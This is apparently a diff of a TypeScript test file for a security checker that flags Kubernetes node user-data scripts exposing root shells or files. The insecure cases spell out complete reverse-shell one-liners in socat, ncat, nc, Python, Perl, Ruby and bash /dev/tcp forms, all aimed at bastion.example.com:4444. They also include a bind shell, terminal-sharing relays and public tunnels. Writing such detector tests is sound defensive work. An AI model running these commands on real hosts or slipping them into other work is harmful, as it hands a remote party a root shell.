@@ -77,15 +77,14 @@ const insecure: NodeCase[] = [
         ]),
         SOCKET,
     ),
-    // MISS: tmate.io ("Instant terminal sharing"; `tmate -F` prints ssh/web URLs to a session on tmate.io's servers): root's
+    // Was a MISS (fixed in round 59): tmate.io ("Instant terminal sharing"; `tmate -F` prints ssh/web URLs to a session on tmate.io's servers): root's
     // shell on the node is handed to whoever holds the session URL (node role, every pod's token); no reader of shell sharers.
     devNodeCase(
         "tmate -F (root's terminal shared through tmate.io)",
         devNodeScript("dev-tmate-nodes", ["dnf install -y tmate", "nohup tmate -F > /var/log/tmate.log 2>&1 &"]),
         RELAY,
-        true,
     ),
-    // MISS: upterm README (owenthereal/upterm: "upterm host -- bash" shares the terminal through an uptermd server; clients
+    // Was a MISS (fixed in round 59): upterm README (owenthereal/upterm: "upterm host -- bash" shares the terminal through an uptermd server; clients
     // `ssh` into it): root's shell served beyond the node through a dial-out relay; not read as tmate/ssh -R are not.
     devNodeCase(
         "upterm host --server ssh://uptermd.upterm.dev:22 -- bash (root's shell shared)",
@@ -93,14 +92,13 @@ const insecure: NodeCase[] = [
             "nohup upterm host --accept --server ssh://uptermd.upterm.dev:22 -- bash &",
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "ttyd -p 7681 bash (root's shell as a web terminal on the node's addresses)",
         devNodeScript("dev-ttyd-nodes", ["nohup ttyd -p 7681 -W bash &"]),
         RELAY,
     ),
-    // MISS: socat(1) EXEC:<command-line> "Forks a sub process ... and invokes the specified program" joined to TCP:bastion:4444:
+    // Was a MISS (fixed in round 59): socat(1) EXEC:<command-line> "Forks a sub process ... and invokes the specified program" joined to TCP:bastion:4444:
     // root's pty shell relayed to bastion; the round-57 /dev/tcp shell reader does not see socat's EXEC/SYSTEM address.
     devNodeCase(
         "socat EXEC:'bash -li',pty,stderr,setsid TCP:bastion:4444 (a root reverse shell)",
@@ -108,17 +106,15 @@ const insecure: NodeCase[] = [
             "nohup socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane TCP:bastion.example.com:4444 &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: ncat(1) -e/--exec "Execute the given command after a connection has been established": connect mode hands root's
+    // Was a MISS (fixed in round 59): ncat(1) -e/--exec "Execute the given command after a connection has been established": connect mode hands root's
     // /bin/bash to bastion.example.com:4444; ncat is read for forwarding to containerd, not for -e/-c/--sh-exec.
     devNodeCase(
         "ncat -e /bin/bash bastion 4444 (a root reverse shell)",
         devNodeScript("dev-ncat-e-shell-nodes", ["nohup ncat -e /bin/bash bastion.example.com 4444 &"]),
         RELAY,
-        true,
     ),
-    // MISS: Python docs (socket.create_connection, os.dup2, pty.spawn): a root bash whose stdio is a TCP connection to bastion
+    // Was a MISS (fixed in round 59): Python docs (socket.create_connection, os.dup2, pty.spawn): a root bash whose stdio is a TCP connection to bastion
     // (a reverse shell); the round-58 Python readers find servers (http.server, Flask, RPyC), not outbound shells.
     devNodeCase(
         "python3 socket reverse shell to bastion:4444 (pty.spawn bash)",
@@ -126,9 +122,8 @@ const insecure: NodeCase[] = [
             'nohup python3 -c \'import socket,os,pty;s=socket.create_connection(("bastion.example.com",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("bash")\' &',
         ]),
         RELAY,
-        true,
     ),
-    // MISS: bash(1) REDIRECTION "/dev/tcp/host/port" with `exec 3<>` (Opening File Descriptors for Reading and Writing): fd 3 is a
+    // Was a MISS (fixed in round 59): bash(1) REDIRECTION "/dev/tcp/host/port" with `exec 3<>` (Opening File Descriptors for Reading and Writing): fd 3 is a
     // connection to bastion and nc relays it to miniserve / on loopback; only `>& /dev/tcp` shell form is read (round 57).
     devNodeCase(
         "exec 3<>/dev/tcp/bastion/4444; nc 127.0.0.1 8000 <&3 >&3 (a /dev/tcp fd relay) before miniserve /",
@@ -137,7 +132,142 @@ const insecure: NodeCase[] = [
             "nohup bash -c 'exec 3<>/dev/tcp/bastion.example.com/4444; nc 127.0.0.1 8000 <&3 >&3' &",
         ]),
         RELAY,
-        true,
+    ),
+    // Round-59 fix neighbours: the class of a root program connecting out and handing the connection a shell.
+    devNodeCase(
+        "ncat --sh-exec 'exec bash -i' bastion 4444 (-c form)",
+        devNodeScript("dev-ncat-sh-exec-shell-nodes", [
+            "nohup ncat --sh-exec 'exec bash -i' bastion.example.com 4444 &",
+        ]),
+        /shell/,
+    ),
+    devNodeCase(
+        "nc -e /bin/sh 10.0.5.9 4444 (netcat, an address)",
+        devNodeScript("dev-nc-e-shell-nodes", ["nohup nc -e /bin/sh 10.0.5.9 4444 &"]),
+        /shell/,
+    ),
+    devNodeCase(
+        "ncat --lua-exec /opt/x.lua bastion 4444 (a Lua script the pack does not read)",
+        devNodeScript("dev-ncat-lua-exec-nodes", ["nohup ncat --lua-exec /opt/x.lua bastion.example.com 4444 &"]),
+        /shell/,
+    ),
+    devNodeCase(
+        "socat OPENSSL:bastion:443,verify=0 SYSTEM:'sh -i' (a reverse shell over TLS)",
+        devNodeScript("dev-socat-system-tls-shell-nodes", [
+            "nohup socat OPENSSL:bastion.example.com:443,verify=0 SYSTEM:'sh -i',pty,stderr &",
+        ]),
+        /shell/,
+    ),
+    devNodeCase(
+        "socat EXEC:/usr/local/bin/console (a script user data wrote that runs bash -i) TCP:bastion:4444",
+        devNodeScript("dev-socat-exec-script-shell-nodes", [
+            ...file("/usr/local/bin/console", ["#!/bin/bash", "exec bash -i"]),
+            "chmod +x /usr/local/bin/console",
+            "nohup socat EXEC:/usr/local/bin/console TCP:bastion.example.com:4444 &",
+        ]),
+        /shell/,
+    ),
+    devNodeCase(
+        "exec 3<>/dev/tcp/bastion/4444; bash -i <&3 >&3 2>&3 (a shell on a /dev/tcp fd)",
+        devNodeScript("dev-devtcp-fd-shell-nodes", [
+            "nohup bash -c 'exec 3<>/dev/tcp/bastion.example.com/4444; bash -i <&3 >&3 2>&3' &",
+        ]),
+        /shell/,
+    ),
+    devNodeCase(
+        "perl -e Socket/connect/exec /bin/sh -i (a Perl reverse shell)",
+        devNodeScript("dev-perl-revshell-nodes", [
+            `nohup perl -e 'use Socket;$i="bastion.example.com";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' &`,
+        ]),
+        /shell/,
+    ),
+    devNodeCase(
+        "ruby -rsocket -e TCPSocket + exec /bin/sh -i (a Ruby reverse shell)",
+        devNodeScript("dev-ruby-revshell-nodes", [
+            `nohup ruby -rsocket -e 'f=TCPSocket.open("bastion.example.com",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)' &`,
+        ]),
+        /shell/,
+    ),
+    devNodeCase(
+        "python3 /opt/agent.py, a script user data wrote that is a socket/subprocess reverse shell",
+        devNodeScript("dev-python-script-revshell-nodes", [
+            ...file("/opt/agent.py", [
+                "import socket, subprocess",
+                's = socket.create_connection(("bastion.example.com", 4444))',
+                'subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)',
+            ]),
+            "nohup python3 /opt/agent.py &",
+        ]),
+        /shell/,
+    ),
+    devNodeCase(
+        "python3 -c bind shell on 0.0.0.0:4444 (socket accept + subprocess sh -i)",
+        devNodeScript("dev-python-bindshell-nodes", [
+            `nohup python3 -c 'import socket,subprocess;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1);c,_=s.accept();subprocess.call(["/bin/sh","-i"],stdin=c,stdout=c,stderr=c)' &`,
+        ]),
+        /shell/,
+    ),
+    devNodeCase(
+        "sshx (root's terminal shared at an sshx.io link)",
+        devNodeScript("dev-sshx-nodes", ["nohup sshx --quiet &"]),
+        /shell/,
+    ),
+    devNodeCase(
+        "tty-share --public (root's terminal through tty-share.com)",
+        devNodeScript("dev-tty-share-public-nodes", ["nohup tty-share --public --headless &"]),
+        /shell/,
+    ),
+    devNodeCase(
+        "tunnelto --port 8000 --subdomain nodefiles before miniserve /",
+        devNodeScript("dev-tunnelto-nodes", [LO_ROOT, "nohup tunnelto --port 8000 --subdomain nodefiles &"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "zrok share private 127.0.0.1:8000 before miniserve / (to any zrok account holding the token)",
+        devNodeScript("dev-zrok-private-nodes", [LO_ROOT, "nohup zrok share private 127.0.0.1:8000 --headless &"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "/root/.ssh/config Host self HostName 127.0.0.1 LocalForward 0.0.0.0:8080 127.0.0.1:8000 before miniserve /",
+        devNodeScript("dev-ssh-config-localforward-any-nodes", [
+            LO_ROOT,
+            "mkdir -p /root/.ssh",
+            ...file("/root/.ssh/config", [
+                "Host self",
+                "    HostName 127.0.0.1",
+                "    LocalForward 0.0.0.0:8080 127.0.0.1:8000",
+            ]),
+            "nohup ssh -N self &",
+        ]),
+        /\/root\/\.ssh\/config/,
+    ),
+    devNodeCase(
+        "/root/.ssh/config LocalForward 127.0.0.1:5432 db:5432 and DynamicForward 0.0.0.0:1080",
+        devNodeScript("dev-ssh-config-dynamic-nodes", [
+            "mkdir -p /root/.ssh",
+            ...file("/root/.ssh/config", [
+                "Host bastion",
+                "    HostName bastion.example.com",
+                "    LocalForward 127.0.0.1:5432 db.internal.example.com:5432",
+                "    DynamicForward 0.0.0.0:1080",
+            ]),
+            "nohup ssh -N bastion &",
+        ]),
+        /\/root\/\.ssh\/config/,
+    ),
+    devNodeCase(
+        "/root/.ssh/config LocalForward 127.0.0.1:5432 db:5432 with UserKnownHostsFile /var/lib/shared/known_hosts",
+        devNodeScript("dev-ssh-config-known-hosts-shared-nodes", [
+            "mkdir -p /root/.ssh",
+            ...file("/root/.ssh/config", [
+                "Host bastion",
+                "    HostName bastion.example.com",
+                "    UserKnownHostsFile /var/lib/shared/known_hosts",
+                "    LocalForward 127.0.0.1:5432 db.internal.example.com:5432",
+            ]),
+            "nohup ssh -N bastion &",
+        ]),
+        /\/root\/\.ssh\/config/,
     ),
     devNodeCase(
         "gost -L rtcp://:8080/127.0.0.1:8000 -F relay+tls://bastion:8443 (gost reverse forward) before miniserve /",
@@ -147,7 +277,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: zrok docs ("zrok share public" creates a public share of a local resource, e.g. localhost:8000, at a share URL):
+    // Was a MISS (fixed in round 59): zrok docs ("zrok share public" creates a public share of a local resource, e.g. localhost:8000, at a share URL):
     // miniserve / made public; zrok is not in TUNNEL_SERVICES (ngrok, bore, localtunnel, tailscale funnel are).
     devNodeCase(
         "zrok share public localhost:8000 --headless before miniserve /",
@@ -157,15 +287,13 @@ const insecure: NodeCase[] = [
             "nohup zrok share public localhost:8000 --headless &",
         ]),
         RELAY,
-        true,
     ),
-    // MISS: PageKite docs/quickstart ("pagekite.py 80 yourname.pagekite.me" makes a local server public at that name):
+    // Was a MISS (fixed in round 59): PageKite docs/quickstart ("pagekite.py 80 yourname.pagekite.me" makes a local server public at that name):
     // miniserve / served to the internet; pagekite is not in TUNNEL_SERVICES.
     devNodeCase(
         "pagekite.py 8000 nodefiles.pagekite.me before miniserve /",
         devNodeScript("dev-pagekite-nodes", [LO_ROOT, "nohup pagekite.py 8000 nodefiles.pagekite.me &"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "ssh -p 443 -R0:localhost:8000 a.pinggy.io (pinggy public tunnel) before miniserve /",
@@ -303,7 +431,7 @@ const secure: NodeCase[] = [
             "nohup ssh -N -L 127.0.0.1:5432:db.internal.example.com:5432 ops@bastion.example.com &",
         ]),
     ),
-    // MISS (secure refused): ssh_config(5) LocalForward "Specifies that a TCP port on the local machine be forwarded ... to the
+    // Was a MISS (fixed in round 59): ssh_config(5) LocalForward "Specifies that a TCP port on the local machine be forwarded ... to the
     // specified host and port from the remote machine" (here bound to 127.0.0.1): nothing of the node leaves it; refused as a write
     // of /root/.ssh/config "the pack cannot judge" although the insecure RemoteForward in the same file is the only relay form.
     devNodeCase(
@@ -318,8 +446,6 @@ const secure: NodeCase[] = [
             ]),
             "nohup ssh -N bastion &",
         ]),
-        undefined,
-        true,
     ),
     devNodeCase(
         "a socket unit ListenStream=127.0.0.1:5433 whose service runs systemd-socket-proxyd db.internal.example.com:5432",
@@ -344,6 +470,52 @@ const secure: NodeCase[] = [
         "socat EXEC:/usr/local/bin/healthcheck TCP-LISTEN:9100,bind=127.0.0.1 (a loopback health endpoint)",
         devNodeScript("dev-socat-exec-health-lo-nodes", [
             "nohup socat TCP-LISTEN:9100,bind=127.0.0.1,reuseaddr,fork EXEC:/usr/local/bin/healthcheck &",
+        ]),
+    ),
+    // Round-59 fix neighbours: clients connecting out that hand no shell, loopback-only ssh_config forwards.
+    devNodeCase(
+        "ncat -z db.internal.example.com 5432 and echo ping | ncat bastion 4444 (connecting out without -e)",
+        devNodeScript("dev-ncat-client-nodes", [
+            "ncat -z -w 5 db.internal.example.com 5432",
+            "echo ping | ncat bastion.example.com 4444",
+        ]),
+    ),
+    devNodeCase(
+        "socat EXEC:/usr/local/bin/emit-metrics TCP:graphite:2003 (a script printing metrics, no shell)",
+        devNodeScript("dev-socat-exec-metrics-nodes", [
+            ...file("/usr/local/bin/emit-metrics", ["#!/bin/bash", 'echo "node.up 1 $(date +%s)"']),
+            "chmod +x /usr/local/bin/emit-metrics",
+            "socat -u EXEC:/usr/local/bin/emit-metrics TCP:graphite.internal.example.com:2003",
+        ]),
+    ),
+    devNodeCase(
+        "python3 -c opening a socket to a database (a readiness check, no shell)",
+        devNodeScript("dev-python-socket-db-nodes", [
+            `python3 -c 'import socket;socket.create_connection(("db.internal.example.com",5432),timeout=5).close()'`,
+        ]),
+    ),
+    devNodeCase(
+        "bash -c 'exec 3<>/dev/tcp/db/5432; echo ok' (a /dev/tcp readiness probe)",
+        devNodeScript("dev-devtcp-probe-nodes", [
+            "timeout 5 bash -c 'exec 3<>/dev/tcp/db.internal.example.com/5432; echo ok'",
+        ]),
+    ),
+    devNodeCase(
+        "/root/.ssh/config LocalForward 6379 and localhost:8443, with IdentityFile and ServerAliveInterval",
+        devNodeScript("dev-ssh-config-localforward-bare-nodes", [
+            "mkdir -p /root/.ssh",
+            ...file("/root/.ssh/config", [
+                "# tunnels to the data tier",
+                "Host bastion",
+                "    HostName bastion.example.com",
+                "    User ops",
+                "    IdentityFile /root/.ssh/id_ed25519",
+                "    ServerAliveInterval 30",
+                "    ExitOnForwardFailure yes",
+                "    LocalForward 6379 cache.internal.example.com:6379",
+                "    LocalForward localhost:8443 api.internal.example.com:443",
+            ]),
+            "nohup ssh -N bastion &",
         ]),
     ),
     devNodeCase(
